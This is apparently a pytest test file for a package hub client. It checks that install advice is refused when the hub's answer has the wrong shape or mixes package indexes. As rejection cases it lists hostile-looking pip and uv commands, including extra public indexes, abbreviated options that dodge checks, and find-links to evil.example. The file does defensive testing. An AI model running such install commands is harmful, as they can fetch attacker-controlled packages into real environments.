"""vf info shows the hub's install commands; a hub answer of the wrong shape, or one that mixes
package indexes, is refused, not printed."""

from __future__ import annotations

import pytest

from verifiers.hub_client.advice import install_advice
from verifiers.hub_client.errors import HubClientError

GOOD = {"vf": "vf install a/b@1.0", "uv": "uv add --index hub=H/a/simple/ b==1.0",
        "pip": ["pip install --isolated --index-url P x", "pip install --isolated --index-url H/a/simple/ b==1.0"],
        "note": None}


def test_the_hubs_commands_are_taken_as_they_are() -> None:
    advice = install_advice({"id": "a/b", "install_commands": GOOD})
    assert advice.as_dict() == GOOD


@pytest.mark.parametrize("answer", [
    None, [], {"id": "a/b"}, {"install_commands": "pip install b"},
    {"install_commands": {**GOOD, "pip": "pip install b"}},
    {"install_commands": {**GOOD, "pip": ["pip install b", 3]}},
    {"install_commands": {**GOOD, "vf": None}},
    {"install_commands": {**GOOD, "note": {"x": 1}}},
])
def test_a_hub_answer_of_another_shape_is_refused(answer: object) -> None:
    with pytest.raises(HubClientError, match="no usable install commands"):
        install_advice(answer)


@pytest.mark.parametrize("field,line", [
    ("pip", "pip install --index-url H/a/simple/ --extra-index-url https://pypi.org/simple/ b==1.0"),
    ("pip", "pip install --extra-index-url=H/a/simple/ b==1.0"),
    ("pip", "PIP_EXTRA_INDEX_URL=H/a/simple/ pip install b==1.0"),
    ("pip", "pip install -i H/a/simple/ -i https://pypi.org/simple/ b==1.0"),
    ("pip", "pip install --index-url H/a/simple/ --index-url=https://pypi.org/simple/ b==1.0"),
    ("pip", "pip install --index-url H/a/simple/ -f https://evil.example/links/ b==1.0"),
    ("pip", "pip install --find-links=https://evil.example/links/ b==1.0"),
    ("uv", "uv pip install --extra-index-url H/a/simple/ b==1.0"),
    ("uv", "uv add --index hub=H/a/simple/ --index-strategy unsafe-best-match b==1.0"),
    ("uv", "UV_INDEX_STRATEGY=unsafe-first-match uv add --index hub=H/a/simple/ b==1.0"),
    ("pip", "pip install 'b==1.0"),  # unparseable: nothing to check it by
    # pip takes any unambiguous start of a long option
    ("pip", "pip install --index-url H/a/simple/ --extra-ind https://pypi.org/simple/ b==1.0"),
    ("pip", "pip install --index-u H/a/simple/ --ind=https://pypi.org/simple/ b==1.0"),
    ("pip", "pip install --find=https://evil.example/links/ b==1.0"),
])
def test_advice_that_mixes_indexes_is_refused(field: str, line: str) -> None:
    commands = {**GOOD, field: [line] if field == "pip" else line}
    with pytest.raises(HubClientError, match="mixes package indexes"):
        install_advice({"install_commands": commands})


def test_one_index_per_command_of_a_chain_is_not_mixing() -> None:
    line = "pip install --isolated --index-url P x && pip install --isolated --index-url H/a/simple/ b==1.0"
    assert install_advice({"install_commands": {**GOOD, "pip": [line]}}).pip == [line]
